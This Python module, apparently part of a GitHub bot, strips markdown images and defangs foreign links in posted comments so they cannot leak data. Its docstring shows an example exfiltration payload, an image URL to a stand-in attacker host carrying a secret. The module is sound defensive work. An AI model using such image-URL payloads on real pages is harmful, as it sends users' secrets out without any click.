"""Outgoing markdown made inert: nothing the bot writes on GitHub can load or link to a foreign host.

Model output, issue text and test logs end up in comments, PR bodies and the step summary. An
image there is fetched as soon as the page is shown, so `![](https://attacker/?q=<secret>)` would
carry data out with no click; a link does on the first click. So, before anything is posted:
markdown images and raw HTML media or anchor tags become text; URLs and `www.` names on hosts
other than the GitHub server's own are defanged (`hxxps://host[.]example/path`), which neither GitHub's
renderer nor its auto-linker reads as a link. Pure functions over text.
"""

from __future__ import annotations

import re
from collections.abc import Collection
from urllib.parse import urlsplit

# Raw HTML that loads something or links somewhere; the bot's own markup (details, summary,
# sub, comments) is none of these.
_TAGS = re.compile(r"<(?=/?\s*(?:img|image|picture|source|video|audio|iframe|object|embed|svg|a|form|link|meta|"
                   r"base|input|track)\b)", re.IGNORECASE)
_IMAGE = re.compile(r"!\[(?P<alt>[^\]\n]*)\]\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'))?\s*\)")
_URL = re.compile(r"(?i)\b(?P<scheme>[a-z][a-z0-9+.\-]{1,20}):/+(?P<rest>[^\s<>()\[\]`\"']+)")
_BARE_WWW = re.compile(r"(?i)(?<![\w./:@-])www\.(?P<rest>[^\s<>()\[\]`\"']+)")
_PROTOCOL_RELATIVE = re.compile(r"(?<=\]\()\s*//(?P<rest>[^\s)]+)")


def allowed_hosts(*urls: str) -> frozenset[str]:
    """The hosts of `urls` (the GitHub server's, say): links there are kept."""
    return frozenset(host for url in urls if (host := (urlsplit(url).hostname or "").lower()))


def neutralise_links(text: str, allowed: Collection[str] = ()) -> str:
    """`text` with images removed, media and anchor tags escaped, and links to foreign hosts defanged."""
    text = _TAGS.sub("&lt;", text)
    text = _IMAGE.sub(_image_text, text)
    text = _PROTOCOL_RELATIVE.sub(lambda m: _defang_host(m["rest"]), text)
    text = _URL.sub(lambda m: m[0] if _host(m[0]) in allowed else _defanged(m), text)
    return _BARE_WWW.sub(lambda m: "www[.]" + _defang_host(m["rest"]), text)


def _image_text(match: re.Match[str]) -> str:
    alt = match["alt"].strip() or "image"
    return f"{alt} (image not shown: the bot posts no external images)"


_PLAIN_NETLOC = re.compile(r"[A-Za-z0-9.\-]+(?::\d{1,5})?")


def _host(url: str) -> str:
    """The URL's host, or "" when its authority is anything but a plain host (user info, backslashes)."""
    try:
        netloc = urlsplit(url).netloc
    except ValueError:  # a malformed port or bracket: not one of ours
        return ""
    return netloc.split(":")[0].lower() if _PLAIN_NETLOC.fullmatch(netloc) else ""


def _defanged(match: re.Match[str]) -> str:
    scheme = match["scheme"]
    scheme = re.sub(r"(?i)^(h)tt(ps?)$", r"\1xx\2", scheme) if scheme.lower().startswith("http") else f"{scheme}[:]"
    return f"{scheme}://{_defang_host(match['rest'])}"


def _defang_host(rest: str) -> str:
    host, sep, path = rest.partition("/")
    return host.replace(".", "[.]") + sep + path
